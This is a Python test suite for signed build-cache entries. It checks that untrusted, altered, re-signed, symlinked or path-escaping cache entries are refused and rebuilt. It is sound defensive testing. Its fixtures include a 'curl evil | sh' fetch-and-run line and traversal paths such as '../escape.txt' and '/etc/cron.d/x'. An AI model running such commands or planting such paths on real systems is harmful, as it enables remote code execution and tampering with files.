"""Signed caches: a push signs each entry; with trusted keys a run fetches only what one of them
signed, and builds anything else itself, saying in one line which entry, which cache and why."""

from __future__ import annotations

import hashlib
import json
import logging
from pathlib import Path

import pytest
from steps_for_tests import InProcessClient, calls, fan_graph, node

from marin.execution.core.step import Step, output_name_of
from marin.execution.run.outcome import Outcome
from marin.execution.run.runner import StepRunner
from marin.execution.store.cache import CacheHit, CacheMiss, push_output, sign_cached, substitute
from marin.execution.store.records import StepRecord
from marin.execution.store.signature_record import EntrySignatures
from marin.execution.store.signing import Fingerprint, SecretKey
from rigging import filesystem as fs

CI, CI2, MALLORY = (SecretKey.generate(name) for name in ("ci-1", "ci-2", "mallory"))


def _runner(prefix: str, **kwargs) -> StepRunner:
    # The steps run in this process: what is proven here (which cache entries are trusted) is the
    # runner's, not its workers' (a worker pool per runner cost most of this file's CPU).
    return StepRunner(prefix=prefix, max_parallel=1, strict_env=False, client=InProcessClient(), **kwargs)


def _graph(counter: str) -> list[Step]:
    """``sig/a -> sig/b`` and an independent ``sig/e``."""
    a = node("sig/a", counter)
    return [node("sig/b", counter, a), node("sig/e", counter)]


@pytest.fixture
def built(tmp_path: Path, counter: str) -> str:
    """A prefix where the graph has been built once (each step ran once)."""
    prefix = str(tmp_path / "built")
    assert _runner(prefix).run(_graph(counter)).ok
    assert calls(counter) == {"sig.a": 1, "sig.b": 1, "sig.e": 1}
    return prefix


def _push(prefix: str, cache: str, counter: str, key: SecretKey | None) -> dict[str, str]:
    """Push every step of the graph from ``prefix`` to ``cache``; ``{step name: output name}``."""
    names = {}
    for p in _runner(prefix).plan(_graph(counter), explain=False).steps:
        assert push_output(p.output_path, cache, p.output_name, signing_key=key)
        names[p.name] = p.output_name
    return names


def _refusals(caplog: pytest.LogCaptureFixture) -> list[str]:
    return [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING and "refused" in r.getMessage()]


def _fetch(tmp_path: Path, cache: str, counter: str, caplog: pytest.LogCaptureFixture, trusted=(CI,),
           name: str = "fresh"):
    caplog.clear()
    with caplog.at_level(logging.WARNING, logger="marin.execution.step_runner"):
        result = _runner(str(tmp_path / name), caches=[cache],
                         cache_trusted_keys=[str(k.public()) for k in trusted]).run(_graph(counter))
    assert result.ok, result
    return result


def _alter(entry: Path, text: str, *, manifest: bool) -> None:
    """Change ``out.txt`` of a cache entry (and, with ``manifest``, its manifest to match, as an
    attacker who can write the bucket would)."""
    (entry / "out.txt").write_text(text)
    if manifest:
        path = entry / ".marin" / "manifest.json"
        body = json.loads(path.read_text())
        for f in body["files"]:
            data = (entry / f["path"]).read_bytes()
            f["size"], f["sha256"] = len(data), hashlib.sha256(data).hexdigest()
        path.write_text(json.dumps(body))


def test_an_entry_signed_by_a_trusted_key_is_fetched(tmp_path, built, counter, caplog):
    cache = str(tmp_path / "cache")
    names = _push(built, cache, counter, CI)
    record = StepRecord(fs.join(cache, names["sig/b"])).read_signatures()
    assert record is not None and [s.key for s in record.signatures] == ["ci-1"]
    assert record.signed is not None and record.signed["output"] == names["sig/b"]

    result = _fetch(tmp_path, cache, counter, caplog)
    assert {s.name: s.outcome for s in result.steps} == \
        {"sig/a": Outcome.UNNEEDED, "sig/b": Outcome.CACHED, "sig/e": Outcome.CACHED}
    assert _refusals(caplog) == [] and calls(counter) == {"sig.a": 1, "sig.b": 1, "sig.e": 1}
    # The fetched entry keeps its signatures: pushed on to another cache, it is still signed.
    fetched = result.by_name("sig/b").output_path
    assert StepRecord(fetched).read_signatures() == record
    assert push_output(fetched, str(tmp_path / "cache2"), names["sig/b"])
    assert StepRecord(str(tmp_path / "cache2" / names["sig/b"])).read_signatures() == record


@pytest.mark.parametrize("signer, why", [
    (None, "not signed (trusted keys: ci-1)"),
    (MALLORY, "signed only by keys that are not trusted (mallory; trusted keys: ci-1)"),
])
def test_an_unsigned_or_otherwise_signed_entry_is_refused_and_built_here(tmp_path, built, counter, caplog,
                                                                         signer, why):
    cache = str(tmp_path / "cache")
    names = _push(built, cache, counter, signer)
    result = _fetch(tmp_path, cache, counter, caplog)
    # One line per entry tried, naming it, the cache and why; then the step is built here.
    assert sorted(_refusals(caplog)) == sorted(
        f"cache entry {names[n]} from {cache} refused: {why}; rebuilding it here" for n in ("sig/a", "sig/b", "sig/e"))
    assert all(s.outcome is Outcome.RAN for s in result.steps), result.steps
    assert calls(counter) == {"sig.a": 2, "sig.b": 2, "sig.e": 2}
    for s in result.steps:
        assert not fs.exists(StepRecord(s.output_path).signatures)


def test_without_trusted_keys_a_fetch_takes_any_entry_as_before(tmp_path, built, counter, caplog):
    cache = str(tmp_path / "cache")
    _push(built, cache, counter, None)
    result = _fetch(tmp_path, cache, counter, caplog, trusted=())
    assert result.by_name("sig/b").outcome is Outcome.CACHED and result.by_name("sig/e").outcome is Outcome.CACHED
    assert _refusals(caplog) == [] and calls(counter)["sig.b"] == 1


def test_an_entry_altered_after_signing_is_refused(tmp_path, built, counter, caplog):
    cache = tmp_path / "cache"
    names = _push(built, str(cache), counter, CI)
    b, e = cache / names["sig/b"], cache / names["sig/e"]
    _alter(b, '{"poisoned": true}', manifest=True)  # files and manifest agree: only the signature tells
    same_size = (e / "out.txt").read_text().replace('"value": 0', '"value": 9')
    _alter(e, same_size, manifest=False)

    result = _fetch(tmp_path, str(cache), counter, caplog)
    assert sorted(_refusals(caplog)) == [
        f"cache entry {names['sig/b']} from {cache} refused: the signature by ci-1 does not match the entry: "
        "its manifest changed after signing; rebuilding it here"]
    warnings = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
    assert f"cache entry {e} does not match its manifest (out.txt: checksum changed); rebuilding it here" in warnings
    for name in ("sig/b", "sig/e"):
        assert result.by_name(name).outcome is Outcome.RAN
        assert json.loads(fs.read_text(fs.join(result.by_name(name).output_path, "out.txt")))["value"] == 0
    # sig/a was fetched to build sig/b from (its entry is sound).
    assert calls(counter) == {"sig.a": 1, "sig.b": 2, "sig.e": 2}


def test_an_entry_altered_and_resigned_by_another_key_is_refused(tmp_path, built, counter, caplog):
    cache = tmp_path / "cache"
    names = _push(built, str(cache), counter, CI)
    for name, keep in (("sig/b", False), ("sig/e", True)):
        entry = StepRecord(str(cache / names[name]))
        _alter(cache / names[name], '{"poisoned": true}', manifest=True)
        manifest, success = entry.read_json(entry.manifest), entry.read_success()
        assert manifest is not None and success is not None and success.hash is not None
        fingerprint = Fingerprint.of(names[name], success.hash, manifest, success)
        # The attacker's own signature instead of the trusted one, or beside it.
        kept = entry.read_signatures() if keep else None
        resigned = EntrySignatures(fingerprint.to_json(), (*(kept.signatures if kept else ()),
                                                           MALLORY.sign(fingerprint.message())))
        entry.write_json(entry.signatures, resigned.to_json())

    result = _fetch(tmp_path, str(cache), counter, caplog)
    assert sorted(_refusals(caplog)) == [
        f"cache entry {names['sig/b']} from {cache} refused: signed only by keys that are not trusted "
        "(mallory; trusted keys: ci-1); rebuilding it here",
        f"cache entry {names['sig/e']} from {cache} refused: the signature by ci-1 does not match the entry: "
        "not a valid signature of it (made by another key of that name, or the entry was altered); rebuilding it here",
    ]
    assert result.by_name("sig/b").outcome is Outcome.RAN and result.by_name("sig/e").outcome is Outcome.RAN


def test_key_rotation_trusts_two_keys_and_push_signs_what_the_cache_holds(tmp_path, built, counter, caplog):
    cache = str(tmp_path / "cache")
    plan = _runner(built).plan(_graph(counter), explain=False)
    by_name = {p.name: p for p in plan.steps}
    # Entries pushed before the rotation carry the old key's signature, those after it the new one's.
    assert push_output(by_name["sig/a"].output_path, cache, by_name["sig/a"].output_name, signing_key=CI)
    assert push_output(by_name["sig/b"].output_path, cache, by_name["sig/b"].output_name, signing_key=CI)
    assert push_output(by_name["sig/e"].output_path, cache, by_name["sig/e"].output_name, signing_key=CI2)
    result = _fetch(tmp_path, cache, counter, caplog, trusted=(CI, CI2))
    assert _refusals(caplog) == [] and {s.outcome for s in result.steps} == {Outcome.CACHED, Outcome.UNNEEDED}

    # The new key signs the entries already there (once); then the old key can go.
    for p in plan.steps:
        assert sign_cached(p.output_path, cache, p.output_name, CI2) is (p.name != "sig/e")
        assert sign_cached(p.output_path, cache, p.output_name, CI2) is False
    signed = StepRecord(fs.join(cache, by_name["sig/b"].output_name)).read_signatures()
    assert signed is not None and [s.key for s in signed.signatures] == ["ci-1", "ci-2"]
    result = _fetch(tmp_path, cache, counter, caplog, trusted=(CI2,), name="fresh-after")
    assert _refusals(caplog) == [] and result.by_name("sig/b").outcome is Outcome.CACHED
    assert calls(counter) == {"sig.a": 1, "sig.b": 1, "sig.e": 1}


def test_a_key_never_signs_a_cache_entry_that_is_another_build(tmp_path, built, counter):
    cache = tmp_path / "cache"
    names = _push(built, str(cache), counter, None)
    _alter(cache / names["sig/b"], '{"poisoned": true}', manifest=True)
    p = next(p for p in _runner(built).plan(_graph(counter), explain=False).steps if p.name == "sig/b")
    with pytest.raises(CacheMiss, match=r"is another build than the one at .* \(they differ in: manifest\); not signing it"):
        sign_cached(p.output_path, str(cache), p.output_name, CI)
    assert StepRecord(str(cache / names["sig/b"])).read_signatures() is None


def test_an_earlier_build_in_a_cache_is_reused_only_when_signed(tmp_path, counter, caplog):
    up = node("cut/up", counter, value=1)
    down = node("cut/down", counter, up)
    first = str(tmp_path / "first")
    assert _runner(first).run([down]).ok
    signed, unsigned = str(tmp_path / "signed"), str(tmp_path / "unsigned")
    for p in _runner(first).plan([down], explain=False).steps:
        push_output(p.output_path, signed, p.output_name, signing_key=CI)
        push_output(p.output_path, unsigned, p.output_name)
    # A new identity of the upstream with the same output (its unhashed counter_dir aside, a field
    # the step ignores): the downstream step's earlier build in the cache stands in for it.
    up2 = node("cut/up", counter, value=1, version="v2")
    down2 = node("cut/down", counter, up2)
    for cache, outcome in ((unsigned, Outcome.RAN), (signed, Outcome.REUSED)):
        caplog.clear()
        with caplog.at_level(logging.WARNING, logger="marin.execution.step_runner"):
            result = _runner(str(tmp_path / f"run-{Path(cache).name}"), caches=[cache],
                             cache_trusted_keys=[str(CI.public())]).run([down2])
        assert result.by_name("cut/down").outcome is outcome, (cache, result.steps, caplog.text)
        refused = _refusals(caplog)
        if outcome is Outcome.RAN:
            assert len(refused) == 1 and refused[0].startswith("cache entry cut/down-") \
                and refused[0].endswith("refused: not signed (trusted keys: ci-1); building "
                                        f"cut/down-{result.by_name('cut/down').hash[:16]} instead"), refused
        else:
            assert refused == []
            # The copy is another step's: the earlier build's signatures do not come with it.
            assert not fs.exists(StepRecord(result.by_name("cut/down").output_path).signatures)


@pytest.mark.parametrize("cache_kind", ["local", "memory", "gs"])
def test_signed_entries_on_every_store(tmp_path, built, counter, cache_kind, request):
    cache = {"local": lambda: str(tmp_path / "cache"), "memory": lambda: request.getfixturevalue("memory_prefix"),
             "gs": lambda: request.getfixturevalue("gcs_bucket") + "/cache"}[cache_kind]()
    names = _push(built, cache, counter, CI)
    hit = CacheHit(cache, fs.join(cache, names["sig/e"]), names["sig/e"])
    success = StepRecord(hit.path).read_success()
    assert success is not None and success.hash is not None
    manifest, fetched = substitute(hit, str(tmp_path / "here"), trusted=[CI.public()], step_hash=success.hash)
    assert fetched == success and manifest == StepRecord(hit.path).read_json(StepRecord(hit.path).manifest)
    with pytest.raises(CacheMiss, match=r"refused: signed only by keys that are not trusted \(ci-1; trusted keys: ci-2\)"):
        substitute(hit, str(tmp_path / "there"), trusted=[CI2.public()], step_hash=success.hash)
    assert not fs.exists(str(tmp_path / "there"))  # refused before a byte of it was copied


def test_with_trusted_keys_a_step_is_expanded_from_its_entry_only_once_fetched_and_checked(tmp_path, counter):
    g = fan_graph(counter, width=2, depth=0)
    first = _runner(str(tmp_path / "first")).run([g["root"]])
    assert first.ok
    cache = str(tmp_path / "cache")
    for s in first.steps:
        assert push_output(s.output_path, cache, output_name_of(s.name, s.hash), signing_key=CI)
    built = dict(calls(counter))

    unchecked = _runner(str(tmp_path / "fresh"), caches=[cache]).plan([g["root"]])
    assert unchecked.unexpanded() == [] and len(unchecked.steps) == 3  # read from the cache's files
    runner = _runner(str(tmp_path / "fresh"), caches=[cache], cache_trusted_keys=[str(CI.public())])
    checked = runner.plan([g["root"]])
    assert [checked.steps[pos].name for pos in checked.unexpanded()] == ["fan/root"] and len(checked.steps) == 1
    result = runner.run([g["root"]])
    assert result.ok and result.count(Outcome.RAN) == 0 and len(result.steps) == 3, result.steps
    assert calls(counter) == built


# -- exactly what was signed -------------------------------------------------------------------


def test_a_signed_entry_with_a_file_its_manifest_does_not_list_is_refused(tmp_path, built, counter, caplog):
    cache = tmp_path / "cache"
    names = _push(built, str(cache), counter, CI)
    (cache / names["sig/e"] / "extra.sh").write_text("curl evil | sh\n")  # no signature covers it
    (cache / names["sig/b"] / ".marin" / "hooks.json").write_text("{}")  # nor a record the store knows
    # A cut-off attempt here left a file: a fetch publishes the entry's files, not it.
    leftover = tmp_path / "fresh" / names["sig/a"] / "partial.tmp"
    leftover.parent.mkdir(parents=True)
    leftover.write_text("cut off")

    result = _fetch(tmp_path, str(cache), counter, caplog)
    assert sorted(_refusals(caplog)) == [
        f"cache entry {names['sig/b']} from {cache} refused: file '.marin/hooks.json' is neither in its manifest nor "
        "one of its records; rebuilding it here",
        f"cache entry {names['sig/e']} from {cache} refused: file 'extra.sh' is not in its manifest (no signature "
        "covers it); rebuilding it here"]
    assert result.by_name("sig/e").outcome is Outcome.RAN and result.by_name("sig/b").outcome is Outcome.RAN
    assert not (tmp_path / "fresh" / names["sig/e"] / "extra.sh").exists()
    assert not (tmp_path / "fresh" / names["sig/b"] / ".marin" / "hooks.json").exists()
    assert result.by_name("sig/a").outcome is Outcome.CACHED and not leftover.exists()  # fetched to build sig/b


def test_a_file_that_is_a_symbolic_link_refuses_the_entry(tmp_path, built, counter, caplog):
    cache = tmp_path / "cache"
    names = _push(built, str(cache), counter, CI)
    entry = cache / names["sig/e"]
    elsewhere = tmp_path / "secret.txt"  # the same bytes: the manifest and signature still match
    elsewhere.write_bytes((entry / "out.txt").read_bytes())
    (entry / "out.txt").unlink()
    (entry / "out.txt").symlink_to(elsewhere)
    result = _fetch(tmp_path, str(cache), counter, caplog)
    assert _refusals(caplog) == [f"cache entry {names['sig/e']} from {cache} refused: file 'out.txt' is a symbolic "
                                 "link; rebuilding it here"]
    assert result.by_name("sig/e").outcome is Outcome.RAN


@pytest.mark.parametrize("key, shown", [("../escape.txt", "'../escape.txt'"), ("/abs.txt", "'/abs.txt'")])
def test_an_object_key_leaving_the_entry_is_refused_before_anything_is_written(tmp_path, built, counter, caplog,
                                                                               strict_gcs_bucket, key, shown):
    cache = strict_gcs_bucket + "/cache"
    names = _push(built, cache, counter, CI)
    # An object store's keys are free text: "<entry>/../escape.txt" is listed under the entry.
    fs.atomic_write(f"{cache}/{names['sig/e']}/{key}", b"written outside the step's folder\n")
    assert any(rel == key for rel, _ in fs.walk_files(f"{cache}/{names['sig/e']}"))
    result = _fetch(tmp_path, cache, counter, caplog)
    assert _refusals(caplog) == [f"cache entry {names['sig/e']} from {cache} refused: file {shown} is not in its "
                                 "manifest (no signature covers it); rebuilding it here"]
    assert result.by_name("sig/e").outcome is Outcome.RAN
    here = tmp_path / "fresh"
    assert {p.name for p in (here / "sig").iterdir()} <= {n.split("/")[1] for n in names.values()}
    assert not list(here.rglob("escape.txt")) and not list(here.rglob("abs.txt"))


@pytest.mark.parametrize("name, why", [
    ("../escape.txt", "its name climbs out of the step's folder ('..')"),
    ("a/../../escape.txt", "its name climbs out of the step's folder ('..')"),
    ("/etc/cron.d/x", "its name is absolute"),
    ("a//b", "its name is not normalised (an empty or '.' part)"),
    ("./out.txt", "its name is not normalised (an empty or '.' part)"),
    (".marin/success.json", "its name is inside .marin/ or .attempts/, which the store keeps for itself"),
    ("", "its name is empty"),
])
def test_a_manifest_naming_a_file_outside_the_entry_is_refused_even_when_signed(tmp_path, built, counter, name, why):
    cache = tmp_path / "cache"
    names = _push(built, str(cache), counter, None)
    entry = StepRecord(str(cache / names["sig/e"]))
    manifest = entry.read_json(entry.manifest)
    success = entry.read_success()
    assert manifest is not None and success is not None and success.hash is not None
    manifest["files"].append({"path": name, "size": 3, "sha256": hashlib.sha256(b"bad").hexdigest()})
    entry.write_json(entry.manifest, manifest)
    fingerprint = Fingerprint.of(names["sig/e"], success.hash, manifest, success)
    entry.write_json(entry.signatures, EntrySignatures(fingerprint.to_json(), (CI.sign(fingerprint.message()),))
                     .to_json())  # a trusted key signed it: a name is checked all the same
    hit = CacheHit(str(cache), entry.output_path, names["sig/e"])
    with pytest.raises(CacheMiss) as refused:
        substitute(hit, str(tmp_path / "here" / names["sig/e"]), trusted=[CI.public()], step_hash=success.hash)
    assert str(refused.value) == f"cache entry {names['sig/e']} from {cache} refused: file {name!r} of its manifest: {why}"
    assert not (tmp_path / "here").exists()


def test_a_signed_entry_whose_provenance_or_log_changed_after_signing_is_refused(tmp_path, built, counter, caplog):
    # The provenance feeds the plan's code-change detection (its code digest) and `marin show`:
    # what a signature does not cover must not land in the store as if it did.
    cache = tmp_path / "cache"
    names = _push(built, str(cache), counter, CI)
    provenance = cache / names["sig/b"] / ".marin" / "provenance.json"
    body = json.loads(provenance.read_text())
    body["host"] = "an attacker's host"
    provenance.write_text(json.dumps(body))
    (cache / names["sig/e"] / ".marin" / "log.txt").write_text("nothing happened here\n")

    result = _fetch(tmp_path, str(cache), counter, caplog)
    assert sorted(_refusals(caplog)) == [
        f"cache entry {names['sig/b']} from {cache} refused: its provenance.json changed after signing; "
        "rebuilding it here",
        f"cache entry {names['sig/e']} from {cache} refused: its log.txt changed after signing; rebuilding it here"]
    for name in ("sig/b", "sig/e"):
        fetched = StepRecord(result.by_name(name).output_path)
        assert result.by_name(name).outcome is Outcome.RAN
        assert json.loads(fs.read_text(fetched.provenance))["host"] != "an attacker's host"


def test_an_entry_signed_before_records_were_covered_is_fetched_without_them(tmp_path, built, counter, caplog):
    cache = tmp_path / "cache"
    names = _push(built, str(cache), counter, None)
    for output in names.values():  # signed as a push signed before (format 1: manifest, hash, realisation)
        entry = StepRecord(str(cache / output))
        manifest, success = entry.read_json(entry.manifest), entry.read_success()
        assert manifest is not None and success is not None and success.hash is not None
        old = Fingerprint.of(output, success.hash, manifest, success)
        assert old.message().startswith(b"marin-cache-entry/1\n")
        entry.write_json(entry.signatures, EntrySignatures(old.to_json(), (CI.sign(old.message()),)).to_json())

    result = _fetch(tmp_path, str(cache), counter, caplog)
    assert _refusals(caplog) == [] and result.by_name("sig/e").outcome is Outcome.CACHED
    fetched = StepRecord(result.by_name("sig/e").output_path)
    assert fs.exists(fetched.manifest) and fs.exists(fetched.signatures)
    assert not fs.exists(fetched.provenance) and not fs.exists(fetched.log)  # what its signature does not cover
